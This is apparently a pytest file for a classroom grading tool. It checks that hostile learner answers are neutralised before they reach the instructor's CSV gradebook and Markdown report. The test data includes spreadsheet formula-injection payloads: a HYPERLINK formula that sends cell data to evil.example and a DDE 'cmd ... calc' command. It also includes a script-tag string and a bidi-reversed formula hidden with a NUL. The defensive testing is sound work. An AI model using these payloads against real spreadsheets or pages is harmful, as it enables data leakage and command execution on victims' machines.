"""Hostile learner text reaches the instructor inert: no live formula in the CSV, no markup in report.md."""
import csv
import io

from typer.testing import CliRunner

from minimodel import settings
from minimodel.catalogue import find_break, load_catalogue
from minimodel.classroom import predictions as P
from minimodel.classroom.safe_text import MAX_CHARS, csv_cell, csv_text, markdown_text
from minimodel.cli import app
from minimodel.harness.answer_keys import key_path, load_answer_key

NO_MASK = find_break("broken-no-mask")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
MARKUP = "<script>alert('x')</script> [click](http://evil.example) **loud** `code` | a cell"


def test_a_formula_gets_a_quote_and_numbers_stay_numbers():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    for value in (-12, 0.5, "-12", "+3.5", "1e-3", "ada", "", "yes"):
        assert csv_cell(value) == value


def test_markdown_text_is_inert():
    out = markdown_text(MARKUP + "\nsecond line")
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert "[click](" not in out and "\\[click\\](" in out
    assert "\\*\\*loud\\*\\*" in out and "\\`code\\`" in out and "\\| a cell" in out and "\n" not in out


def test_grading_hostile_answers_from_another_folder(tmp_path, monkeypatch):
    """Sealed with formulas and HTML, graded from a folder outside the repository: the keys are found,
    the CSV reads back with every formula quoted, the report shows the text without running it."""
    learners = tmp_path / "learners"
    monkeypatch.setenv("MINIMODEL_LEARNERS", str(learners))
    monkeypatch.delenv("MINIMODEL_SOLUTIONS", raising=False)
    monkeypatch.chdir(tmp_path)  # no solutions/ here: the keys must come from beside the package
    key = load_answer_key(NO_MASK)["answers"]
    for i, text in enumerate(FORMULAS + [MARKUP]):
        P.seal(f"learner{i}", NO_MASK, {**key, "explain": text})

    out = tmp_path / "out"
    r = CliRunner().invoke(app, ["grade", str(learners), "--out", str(out)])
    assert r.exit_code == 0, r.output
    with open(out / "gradebook.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    explained = {r["learner"]: r["predicted"] for r in rows if r["question"] == "explain"}
    sealed = [t.strip() for t in FORMULAS]  # sealing strips the surrounding whitespace
    assert [explained[f"learner{i}"] for i in range(len(FORMULAS))] == ["'" + t for t in sealed]
    assert all(r["graded_against"] == "answer_key" for r in rows if r["kind"] != "text")
    scored = [r for r in rows if r["kind"] != "text"]
    assert scored and all(r["score"] == "1" for r in scored)  # the keys' own answers score, read from the package

    report = (out / "report.md").read_text()
    assert "<script>" not in report and "&lt;script&gt;alert" in report
    assert "[click](http" not in report and "=HYPERLINK" in report  # shown as text, for the instructor to read


def test_answer_keys_are_found_from_any_working_folder(tmp_path, monkeypatch):
    monkeypatch.delenv("MINIMODEL_SOLUTIONS", raising=False)
    monkeypatch.chdir(tmp_path)
    root = settings.solutions_root()
    assert root.is_absolute() and all(key_path(b, root).is_file() for b in load_catalogue())
    monkeypatch.setenv("MINIMODEL_SOLUTIONS", str(tmp_path / "mine"))
    assert settings.solutions_root() == tmp_path / "mine"  # the override still wins


BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE_FORMULA = "\u202e=cmd|' /C calc'!A0\x00\nsecond line"  # reversed on screen, a NUL, a line break


def test_hidden_characters_are_removed_and_the_guard_looks_past_invisible_ones():
    assert csv_cell(INVISIBLE_FORMULA) == "'=cmd|' /C calc'!A0\nsecond line"
    for hidden in ("\u200b", "\ufeff", " ", "\u2066", "\x00"):
        assert csv_cell(hidden + "=1+1").startswith("'")
    assert csv_cell("a\x07b\x1b[31mc\x9b") == "ab[31mc" and csv_cell("\ud800x") == "\ufffdx"
    assert csv_cell(" -12") == " -12" and csv_cell("a\tb\r\nc") == "a\tb\r\nc"  # a number; tabs and line breaks stay
    out = markdown_text(INVISIBLE_FORMULA + "\u2028\u2029")
    assert out == "=cmd\\|&#x27; /C calc&#x27;!A0 second line  " and not set(BIDI) & set(out)


def test_long_text_is_cut_with_a_visible_marker_and_every_cell_fits():
    text = "x" * 150_124
    cell = csv_cell("=" + text)
    assert len(cell) == MAX_CHARS and cell.startswith("'=xx") and "150,125 characters in all" in cell
    assert len(markdown_text(text)) == MAX_CHARS and markdown_text(text).endswith("the learner wrote)")
    assert csv_cell("y" * MAX_CHARS) == "y" * MAX_CHARS  # the longest explanation a learner can seal fits whole
    table = csv_text(["a", "b"], [{"a": text, "b": [text]}])
    rows = list(csv.reader(io.StringIO(table)))  # Python's default field limit: 131,072
    assert max(len(cell) for row in rows for cell in row) == MAX_CHARS


def test_a_reversed_formula_with_a_nul_reaches_csv_and_report_inert(tmp_path, monkeypatch):
    learners = tmp_path / "learners"
    monkeypatch.setenv("MINIMODEL_LEARNERS", str(learners))
    monkeypatch.delenv("MINIMODEL_SOLUTIONS", raising=False)
    key = load_answer_key(NO_MASK)["answers"]
    P.seal("eve", NO_MASK, {**key, "explain": INVISIBLE_FORMULA})
    r = CliRunner().invoke(app, ["grade", str(learners), "--out", str(tmp_path / "out")])
    assert r.exit_code == 0, r.output
    with open(tmp_path / "out" / "gradebook.csv", newline="") as f:
        (explain,) = [row["predicted"] for row in csv.DictReader(f) if row["question"] == "explain"]
    assert explain == "'=cmd|' /C calc'!A0\nsecond line"
    report = (tmp_path / "out" / "report.md").read_bytes().decode()
    assert "\x00" not in report and not set(BIDI) & set(report) and "calc&#x27;!A0 second line" in report
